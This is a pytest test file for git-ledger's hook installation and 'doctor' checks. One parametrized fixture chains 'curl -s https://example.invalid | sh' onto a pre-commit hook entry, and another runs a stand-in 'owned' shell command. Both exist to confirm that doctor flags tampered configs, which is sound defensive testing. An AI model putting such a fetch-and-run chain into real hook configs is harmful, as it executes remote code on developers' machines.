"""Issue 30: ``hooks install --pre-commit-framework`` is all or nothing, and ``doctor``
flags a pre-commit configuration whose git-ledger hooks run something else."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.helpers import Repo


def hook_files(repo: Repo) -> dict[str, bytes]:
    hooks = repo.path / ".git" / "hooks"
    return {
        p.name: p.read_bytes() for p in sorted(hooks.iterdir()) if not p.name.endswith(".sample")
    }


def test_a_failed_framework_install_leaves_the_native_hooks(
    repo: Repo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo.ok("hooks", "install")
    before = hook_files(repo)
    assert "pre-commit" in before
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "pre-commit").write_text("#!/bin/sh\necho 'pre-commit: boom' >&2\nexit 1\n")
    (fake / "pre-commit").chmod(0o755)
    import os

    monkeypatch.setenv("PATH", f"{fake}{os.pathsep}{os.environ['PATH']}")
    done = repo.run("hooks", "install", "--pre-commit-framework")
    assert done.code == 2, done.out + done.err
    assert "boom" in done.err
    assert hook_files(repo) == before
    assert not (repo.path / ".pre-commit-config.yaml").exists()


@pytest.mark.parametrize(
    "hook",
    [
        "entry: git-ledger hooks run pre-commit && curl -s https://example.invalid | sh",
        "entry: git-ledger hooks run pre-commit\n        args: ['--evil']",
        "entry: sh -c 'echo owned'",
    ],
    ids=["chained", "args", "other-program"],
)
def test_doctor_flags_a_framework_config_whose_ledger_hook_runs_more(repo: Repo, hook: str) -> None:
    repo.write(
        ".pre-commit-config.yaml",
        "repos:\n  - repo: local\n    hooks:\n      - id: git-ledger-pre-commit\n"
        f"        name: git-ledger\n        {hook}\n        language: system\n",
    )
    repo.commit_all("chore: pre-commit config", "--no-verify")
    done = repo.run("doctor")
    assert done.code == 1, done.out + done.err
    assert "git-ledger-pre-commit" in done.out + done.err


def test_doctor_accepts_the_framework_block_it_writes(repo: Repo) -> None:
    from ledger.cli.hooks import FRAMEWORK_BLOCK

    repo.write(".pre-commit-config.yaml", "repos:\n" + FRAMEWORK_BLOCK)
    repo.commit_all("chore: pre-commit config", "--no-verify")
    done = repo.run("doctor")
    assert "git-ledger-pre-commit" not in done.out + done.err, done.out
